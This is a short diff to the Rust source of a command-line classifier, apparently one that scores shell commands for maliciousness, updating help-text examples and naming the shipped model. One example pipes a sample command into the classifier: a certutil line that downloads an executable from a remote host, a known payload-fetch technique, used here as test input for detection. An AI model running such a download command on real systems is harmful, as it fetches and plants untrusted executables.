@@ -95,8 +95,9 @@ pub fn train_cli(args: &TrainArgs, globals: &Globals) -> Result<()> {
 /// `longtail classify`
 #[derive(clap::Args, Debug)]
 #[command(after_help = "Examples:
-  longtail classify --model models/cnn-sample data/sample/nl2bash.jsonl -o scores.parquet
-  echo 'certutil -urlcache -f http://x/a.exe a.exe' | longtail classify --model models/cnn-sample -")]
+  longtail classify --model models/cmdline-cnn data/sample/nl2bash.jsonl -o scores.parquet
+  echo 'certutil -urlcache -f http://x/a.exe a.exe' | longtail classify --model models/cmdline-cnn -
+models/cmdline-cnn is the shipped model (scripts/train_shipped_model.sh; card in its README.md).")]
 pub struct ClassifyArgs {
     /// Classifier directory (from train-classifier or export).
     #[arg(long, short)]
